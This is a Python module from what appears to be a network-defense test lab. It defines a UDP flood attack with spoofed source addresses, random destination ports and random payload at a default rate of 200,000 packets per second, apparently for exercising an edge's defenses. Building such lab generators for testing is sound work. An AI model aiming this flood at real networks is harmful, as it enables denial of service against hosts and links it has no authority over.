"""UDP flood: datagrams of noise to any port. The edge has nothing to say to them, but must look at each, and
its kernel offers an ICMP message in return. That is about a microsecond each, less than a generator here can
ask for: in life this flood is aimed at the link."""

from __future__ import annotations

import numpy as np
from pydantic import Field

from rempart.lab.attacks.contract import Attack, AttackParameters, Order, Sources, Unit
from rempart.lab.attacks.ip_frames import UDP, UDP_HEADER, Packet, any_ports, flood, udp
from rempart.lab.attacks.packets import BATCH, Frames, put16
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender


class UdpFlood(AttackParameters):
    """Where to, and how large."""

    payload: int = Field(default=64, ge=0, le=1_440)
    """Octets of noise in each datagram."""
    port: int = Field(default=0, ge=0, le=65_535)
    """The port that is attacked; 0: any at all."""


UDP_FLOOD = Attack(
    name="udp-flood",
    unit=Unit.PACKETS,
    summary="UDP datagrams of noise from spoofed sources to any port",
    defaults=UdpFlood(rate=200_000, sources=Sources.SPOOFED),
    sender=lambda order: own_sender(order, "udp_flood", packets=True),
)


def packet(parameters: UdpFlood) -> Packet:
    """A datagram of noise."""

    def renew(frames: Frames, at: int, chosen: np.random.Generator) -> None:
        put16(frames, at, any_ports(chosen))
        if parameters.port == 0:
            put16(frames, at + 2, any_ports(chosen, least=1))
        size = (BATCH, parameters.payload)
        frames[:, at + UDP_HEADER :] = chosen.integers(0, 256, size, dtype=np.uint8)

    return Packet(UDP, udp(parameters.port, bytes(parameters.payload)), renew, checksum_at=6)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = UdpFlood.model_validate(order.parameters)
    flood(order, parameters, tally, lambda v6: packet(parameters))


if __name__ == "__main__":
    run_sender(carry_out)
